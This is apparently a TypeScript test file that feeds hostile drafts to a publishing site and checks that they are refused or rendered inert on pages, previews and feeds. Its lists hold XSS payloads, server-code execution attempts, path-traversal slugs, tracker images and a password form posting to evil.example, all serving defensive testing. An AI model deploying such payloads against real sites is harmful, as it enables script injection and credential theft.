import type { Browser, BrowserContext } from 'playwright-core';
import { afterAll, beforeAll, expect, test } from 'vitest';
import type { Database } from '#db/client.ts';
import { sharePreview } from '#src/features/studio/commands/preview.ts';
import { sharedPreviewPath } from '#src/features/studio/rules/paths.ts';
import type { Writer } from '#src/features/studio/rules/writer.ts';
import { givenDraft, givenWriter, publish } from '#tests/features/studio/writing.ts';
import { openBrowser } from '#tests/setup/browser.ts';
import { type RunningSite, startAgain, startSite } from '#tests/setup/site.ts';
import { withDatabaseOf } from '#tests/setup/stopped.ts';

/** Texts that want to run code or to call someone; those that are let in say nothing but words. */
const REFUSED = [
  '<script>alert(1)</script>',
  '<img src="x" onerror="alert(1)" />',
  '<svg onload="alert(1)"></svg>',
  '<iframe srcdoc="x"></iframe>',
  '<a href="javascript:alert(1)">x</a>',
  '<div dangerouslySetInnerHTML={{ __html: "<img src=x onerror=alert(1)>" }} />',
  '<Aside set:html="<img src=x onerror=alert(1)>">\n\nx\n\n</Aside>',
  '<Aside slot="default" client:only="react" title="x" />',
  '<Aside {...{ "set:html": "<script>alert(1)</script>" }} />',
  '<astro-client-only />',
  '{globalThis.process.exit(1)}',
  '{(() => { while (true) {} })()}',
  'import fs from "node:fs"',
  'export const x = await import("node:child_process")',
  '[x](javascript:alert(1))',
  '[x](java&#x0A;script:alert(1))',
  '[x]: data:text/html,<script>alert(1)</script>\n\n[x]',
  '![x](https://tracker.example/x.png)',
  '<Figure src="//tracker.example/x.png" alt="x" />',
  '<Edition slug="../../sign-out">x</Edition>',
  '<Resources menu="help/../../x" />',
  '<style>body { display: none }</style>',
  '<form action="https://evil.example"><input name="password" /></form>',
  '<base href="https://evil.example/" />',
];

const LET_IN = [
  '`<script>alert(1)</script>`',
  '```html\n<script>alert(1)</script>\n```',
  '\\<script>alert(1)\\</script>',
  '&lt;img src=x onerror=alert(1)&gt;',
  '<Aside title="&quot;&gt;&lt;img src=x onerror=alert(1)&gt;">\n\nx\n\n</Aside>',
  '<PullQuote cite="</figcaption><script>alert(1)</script>">\n\nx\n\n</PullQuote>',
  '<Figure src="circle.svg" alt=\'" onerror="alert(1)\' credit="<script>alert(1)</script>" />',
  '<ContentNote about="<script>alert(1)</script>">\n\nx\n\n</ContentNote>',
  '[x](/essays/ "\\" onmouseover=alert(1) x=\\"")',
  '![" onerror="alert(1)](/favicon.svg)',
  'A[^x"onmouseover="alert(1)]\n\n[^x"onmouseover="alert(1)]: &lt;script&gt;alert(1)&lt;/script&gt;',
  '## constructor __proto__ &lt;script&gt;',
  '~~~"><script>alert(1)</script>\nx\n~~~',
  '`]]><script>alert(1)</script>` and ]]&gt;',
  'A control \u0001 character and half of a pair \uD83D',
  'Right to left \u202E and a null \0 character',
];

interface Written {
  body: string;
  secret: string;
  /** None when it was refused. */
  slug: string | undefined;
}

let site: RunningSite;
let browser: Browser;
let context: BrowserContext;
const written: Written[] = [];

beforeAll(async () => {
  site = await startSite();
  await site.stop();
  await withDatabaseOf(site, async (db) => {
    const mallory = await givenWriter(db, 'Mallory', 'owner');
    for (const body of [...REFUSED, ...LET_IN]) written.push(await write(db, mallory, body));
  });
  site = await startAgain(site);
  browser = await openBrowser();
  context = await browser.newContext({ bypassCSP: true });
});
afterAll(async () => {
  await browser.close();
  await site.stop();
  await site.remove();
});

async function write(db: Database, writer: Writer, body: string): Promise<Written> {
  const id = await givenDraft(
    db,
    writer,
    { title: `A text ${written.length}` },
    `Before.\n\n${body}\n\nAfter.`,
  );
  const secret = await sharePreview(db, writer, id, { note: '', days: 14 }, new Date());
  const published = await publish(db, writer, id);
  return { body, secret, slug: 'slug' in published ? published.slug : undefined };
}

/** What went wrong while someone looked at a page, with nothing but its own markup to keep it harmless. */
async function harmAt(address: string) {
  const page = await context.newPage();
  const harm: string[] = [];
  page.on('dialog', async (dialog) => {
    harm.push(`it ran: ${dialog.message()}`);
    await dialog.dismiss();
  });
  page.on('pageerror', (error) => harm.push(`it ran and failed: ${error.message}`));
  page.on('request', (request) => {
    if (!request.url().startsWith(site.url)) harm.push(`it called ${request.url()}`);
  });
  const answer = await page.goto(site.url + address, { waitUntil: 'load' });
  if (answer?.status() !== 200) harm.push(`it answers ${answer?.status()}`);
  harm.push(...(await page.evaluate(listActive)));
  const text = await page.locator('.text').innerText();
  await page.close();
  return { harm, text };
}

/** What on a page could run or lead astray, whether or not it did. */
function listActive() {
  const active = 'article :is(script, style, iframe, object, embed, form, base, link, meta, svg, [style])';
  const handlers = [...document.querySelectorAll('*')].filter((element) =>
    element.getAttributeNames().some((name) => name.startsWith('on')),
  );
  const leading = [...document.querySelectorAll('article a')].filter(
    (link) => !/^(https?|mailto|tel):$/.test((link as HTMLAnchorElement).protocol),
  );
  return [...document.querySelectorAll(active), ...handlers, ...leading].map((element) => element.outerHTML);
}

/** What a browser says of XML that it cannot read. */
const complaintOf = (xml: string) =>
  new DOMParser().parseFromString(xml, 'application/xml').querySelector('parsererror')?.textContent;

test('what is not of the vocabulary is refused', () => {
  const letIn = written.filter(({ body, slug }) => REFUSED.includes(body) && slug);
  expect(letIn.map(({ body }) => body)).toEqual([]);
  const refused = written.filter(({ body, slug }) => LET_IN.includes(body) && !slug);
  expect(refused.map(({ body }) => body)).toEqual([]);
});

test('a hostile text does nothing on the page that readers see', async () => {
  for (const { body, slug } of written) {
    if (!slug) continue;
    const { harm, text } = await harmAt(`/essays/${slug}/`);
    expect(harm, body).toEqual([]);
    expect(text, body).toContain('After.');
  }
});

test('a hostile text does nothing where its preview is shown, and says there what is wrong with it', async () => {
  for (const { body, slug, secret } of written) {
    const { harm, text } = await harmAt(sharedPreviewPath(secret));
    expect(harm, body).toEqual([]);
    expect(text, body).toContain(slug ? 'After.' : 'Line 3');
  }
});

test('a hostile text does nothing in a feed', async () => {
  const feed = await (await fetch(`${site.url}/feed.json`)).json();
  const texts = (feed.items as { title: string; content_html: string }[]).filter(({ title }) =>
    title.startsWith('A text'),
  );
  expect(texts).toHaveLength(LET_IN.length);
  const page = await browser.newPage();
  await page.goto(`${site.url}/robots.txt`);
  for (const path of ['/feed.xml', '/atom.xml']) {
    const xml = await (await fetch(site.url + path)).text();
    expect(await page.evaluate(complaintOf, xml), path).toBeUndefined();
  }
  for (const { title, content_html } of texts) {
    await page.setContent(`<article>${content_html}</article>`);
    expect(await page.evaluate(listActive), title).toEqual([]);
  }
  await page.close();
});
